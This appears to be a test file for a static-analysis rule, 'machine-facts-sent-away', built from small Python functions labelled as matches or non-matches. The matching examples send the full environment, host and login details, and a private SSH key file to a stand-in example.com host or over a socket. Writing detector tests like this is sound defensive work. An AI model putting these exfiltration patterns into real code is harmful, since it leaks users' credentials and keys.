import os
import platform
import socket
from pathlib import Path

import httpx


def report(total: float) -> None:
    # ruleid: machine-facts-sent-away
    httpx.post("https://api.example.com/stats", json={"total": total, "env": dict(os.environ)})


def beacon(sock: socket.socket) -> None:
    facts = f"{platform.node()}:{os.getlogin()}"
    # ruleid: machine-facts-sent-away
    sock.sendall(facts.encode())


def keys() -> None:
    # ruleid: machine-facts-sent-away
    httpx.post("https://api.example.com/backup", content=Path("~/.ssh/id_rsa").read_bytes())


def honest(total: float) -> None:
    # ok: machine-facts-sent-away
    httpx.post("https://api.example.com/stats", json={"total": total})


def authorised(total: float) -> None:
    # ok: machine-facts-sent-away
    httpx.post("https://api.example.com", headers={"Authorization": os.environ["API_TOKEN"]})
